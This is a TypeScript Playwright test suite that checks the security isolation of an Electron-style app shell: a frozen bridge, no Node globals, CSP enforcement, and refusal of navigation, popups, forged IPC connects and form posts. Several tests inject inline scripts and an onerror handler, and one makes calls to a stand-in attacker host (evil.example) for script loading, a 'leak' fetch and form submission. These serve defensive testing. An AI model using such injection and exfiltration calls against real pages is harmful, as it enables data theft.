import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONNECT_CHANNEL } from '../../electron/shell/bridge.ts';
import { type StartedShell, startShellDouble } from '../support/shell-double/shell-double.ts';
import { buildFixtureDist } from './fixture-dist.ts';
import { askServices, connected, type FixtureWindow } from './fixture-page.ts';

declare const window: FixtureWindow & Window;

let dist: string;
let dataDir: string;
let started: StartedShell;
let page: Page;

const portsGiven = () => started.shell.calls.filter(call => call.api === 'webFrameMain.postMessage').length;
/** Main hears messages in order: when it has answered this one, it has dealt with those before. */
const settled = () => askServices(page, 'settled?');

beforeAll(async () => {
  dist = await buildFixtureDist();
  dataDir = await mkdtemp(join(tmpdir(), 'ganqiao-data-'));
  started = await startShellDouble({ dist, dataDir });
  page = started.page;
  await connected(page);
});
afterAll(async () => {
  await started?.close();
  expect(started.shell.problems).toEqual([]);
  await rm(dist, { recursive: true });
  await rm(dataDir, { recursive: true });
});

describe('window on the shell double (not Electron)', () => {
  it('gives the page window.clinic with its named functions only, frozen', async () => {
    const bridge = await page.evaluate(() => ({
      keys: Reflect.ownKeys(window.clinic).map(String),
      kinds: Object.values(window.clinic).map(value => typeof value),
      frozen: Object.isFrozen(window.clinic),
      replaced: Reflect.set(window, 'clinic', {}) && Reflect.ownKeys(window.clinic).length === 0,
      returned: (window.clinic.connect as () => unknown)(),
    }));
    expect(bridge).toEqual({ keys: ['connect'], kinds: ['function'], frozen: true, replaced: false });
  });

  it('gives the page nothing of Node', async () => {
    const names = ['require', 'process', 'module', 'exports', 'Buffer', 'global', 'ipcRenderer'];
    expect(await page.evaluate(list => list.filter(name => name in window), names)).toEqual([]);
  });

  it('enforces the content security policy: an injected inline script does not run', async () => {
    const violations = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', event => seen.push(event.effectiveDirective));
      const inline = document.createElement('script');
      inline.textContent = 'window.injected = true';
      document.body.append(inline);
      const handler = document.createElement('div');
      handler.innerHTML = '<img src="absent.png" onerror="window.injected = true">';
      document.body.append(handler);
      const frame = document.createElement('iframe');
      frame.src = 'data:text/html,x';
      document.body.append(frame);
      const outside = document.createElement('script');
      outside.src = 'https://evil.example/x.js';
      document.body.append(outside);
      await fetch('https://evil.example/leak').catch(() => {});
      await new Promise(resolve => setTimeout(resolve, 100));
      return seen;
    });
    expect(started.shell.violations).toContain('script-src-elem: inline');
    expect(await page.evaluate(() => window.injected)).toBeUndefined();
    expect(await page.evaluate(() => window.mayEvaluate)).toBe(false);
    expect(violations).toEqual(
      expect.arrayContaining(['script-src-elem', 'script-src-attr', 'frame-src', 'connect-src']),
    );
  });

  it('stays on its page whatever the page tries', async () => {
    await page.click('#outside');
    await page.evaluate(() => {
      location.href = 'https://evil.example/location';
    });
    await page.evaluate(() => {
      location.href = 'other.html';
    });
    await settled();
    await expect.poll(() => started.shell.refused).toContain('https://evil.example/location');
    expect(started.shell.refused).toContain('https://evil.example/?x=app://clinic');
    expect(started.shell.refused).toContain('app://clinic/other.html');
    expect(new URL(page.url()).pathname).toBe('/index.html');
    expect(await page.textContent('#state')).toBe('connected');
  });

  it('opens no second window', async () => {
    const tries = [
      () => page.click('#outside-new'),
      () => page.evaluate(() => void window.open('https://evil.example/open')),
    ];
    for (const tryIt of tries) {
      const [popup] = await Promise.all([page.waitForEvent('popup'), tryIt()]);
      await expect.poll(() => popup.isClosed()).toBe(true);
    }
    expect(page.context().pages()).toEqual([page]);
    expect(started.shell.problems).toEqual([]);
  });

  it('passes messages both ways, in order, and lives on after many', async () => {
    const answers = await page.evaluate(async () => {
      window.answers.length = 0;
      for (let i = 0; i < 2000; i++) window.port.postMessage({ i, text: '张三', bytes: new Uint8Array([i % 256]) });
      while (window.answers.length < 2000) await new Promise(resolve => setTimeout(resolve, 10));
      return window.answers.map(answer => {
        const { i, text, bytes } = (answer as { data: { i: number; text: string; bytes: Uint8Array } }).data;
        return bytes instanceof Uint8Array && bytes[0] === i % 256 && text === '张三' ? i : null;
      });
    });
    expect(answers).toEqual(Array.from({ length: 2000 }, (_, i) => i));
    await settled();
  });

  it('gives each connection a line of its own', async () => {
    const before = portsGiven();
    await page.evaluate(async () => {
      const first = window.port;
      await window.connect();
      first.close();
    });
    expect(portsGiven()).toBe(before + 1);
    await settled(); // the second lives although the first is closed
  });

  it('hears no sub-frame, no foreign page and no frame that is gone', async () => {
    const before = portsGiven();
    await started.shell.forge(CONNECT_CHANNEL, { url: 'https://evil.example/?x=app://clinic', parents: [] });
    await started.shell.forge(CONNECT_CHANNEL, { url: 'app://evil/index.html', parents: [] });
    await started.shell.forge(CONNECT_CHANNEL, {
      url: 'app://clinic/index.html',
      parents: ['app://clinic/index.html'],
    });
    await started.shell.forge(CONNECT_CHANNEL, null);
    await settled();
    expect(portsGiven()).toBe(before);
  });

  it('closes the old line when the page is loaded anew, and gives a new one', async () => {
    await page.reload();
    await connected(page);
    await settled();
    expect(await page.evaluate(() => window.answers.length)).toBe(1);
  });

  // The last: Playwright waits for ever for the navigation of a form that the policy has stopped.
  it('sends no form anywhere', async () => {
    const directive = await page.evaluate(() => {
      const violation = new Promise(resolve => {
        document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective));
      });
      const form = document.createElement('form');
      form.action = 'https://evil.example/form';
      document.body.append(form);
      form.submit();
      return violation;
    });
    expect(directive).toBe('form-action');
    await settled();
    expect(started.shell.refused).not.toContain('https://evil.example/form');
  });
});
